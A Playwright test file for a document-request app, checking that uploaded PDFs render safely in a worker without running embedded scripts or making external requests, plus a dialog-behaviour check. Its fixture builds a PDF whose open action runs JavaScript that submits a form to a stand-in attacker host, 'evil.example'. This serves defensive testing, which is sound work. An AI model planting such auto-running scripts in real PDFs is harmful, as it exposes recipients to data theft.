import { PDFDocument, PDFName, PDFString, StandardFonts } from "pdf-lib";
import { addFiles, expectArrived } from "../fixtures/checklist.ts";
import { type Document, pdf } from "../fixtures/documents.ts";
import { expect, test } from "../fixtures/test.ts";

/** Creates a PDF that tries to run a script and submit a form when it is opened. */
async function scriptedPdf(name: string): Promise<Document> {
  const document = await PDFDocument.create();
  const font = await document.embedFont(StandardFonts.Helvetica);
  document.addPage([595, 842]).drawText(name, { x: 64, y: 740, size: 22, font });
  const action = document.context.obj({
    S: "JavaScript",
    JS: PDFString.of("app.alert('owned'); this.submitForm('https://evil.example/');"),
  });
  document.catalog.set(PDFName.of("OpenAction"), action);
  return { name, mimeType: "application/pdf", buffer: Buffer.from(await document.save()) };
}

test("PDFs are drawn one after another in a worker, their scripts are not run, and a dialog holds the page behind it still", async ({
  seedSentRequest,
}) => {
  const { requesterPage, recipientPage } = await seedSentRequest({
    items: ["Passport", ...Array.from({ length: 20 }, (_, place) => `Item ${place}`)],
  });
  const names = ["passport.pdf", "scripted.pdf"];
  await addFiles(recipientPage, "Passport", [await pdf("passport.pdf"), await scriptedPdf("scripted.pdf")]);
  const externalRequests: string[] = [];
  const caching: (string | null)[] = [];
  requesterPage.on("response", async (response) => {
    if (response.request().method() === "GET" && response.url().includes("/storage/v1/object/"))
      caching.push((await response.request().allHeaders())["cache-control"] ?? null);
  });
  requesterPage.on("request", (request) => {
    if (!/^(?:blob:|http:\/\/(?:localhost|127\.0\.0\.1):)/.test(request.url()))
      externalRequests.push(request.url());
  });
  await requesterPage.evaluate(() => {
    const { prototype } = CanvasRenderingContext2D;
    for (const name of ["fill", "fillText"] as const)
      prototype[name] = () => document.body.toggleAttribute("data-drawn-in-page", true);
  });
  for (const name of names) {
    await expectArrived(recipientPage, "Passport", name);
    await requesterPage.getByRole("link", { name, exact: true }).click();
    await expect(requesterPage.getByRole("region", { name: `${name}, 1 page` })).toContainText(name);
    await requesterPage.getByRole("button", { name: "Close the review" }).click();
  }
  await expect(requesterPage.locator("body")).not.toHaveAttribute("data-drawn-in-page");
  expect(externalRequests).toEqual([]);
  // The browser sends this header for a read that leaves no copy in its cache. Pictures on the page are read as well.
  expect(caching.length).toBeGreaterThanOrEqual(names.length);
  expect(new Set(caching)).toEqual(new Set(["no-cache"]));

  await test.step("a dialog shades the window up to its right edge, and the page behind does not scroll", async () => {
    const columnAt = async (x: number) =>
      (await requesterPage.screenshot({ clip: { x, y: 400, width: 1, height: 1 } })).toString("base64");
    await requesterPage.keyboard.press("?");
    await expect(requesterPage.getByRole("dialog", { name: "Keyboard shortcuts" })).toBeVisible();
    const width = requesterPage.viewportSize()?.width ?? 0;
    expect(await columnAt(width - 1)).toBe(await columnAt(width - 40));
    const scrolled = await requesterPage.evaluate(() => scrollY);
    await requesterPage.keyboard.press("PageDown");
    expect(await requesterPage.evaluate(() => scrollY)).toBe(scrolled);
  });
});
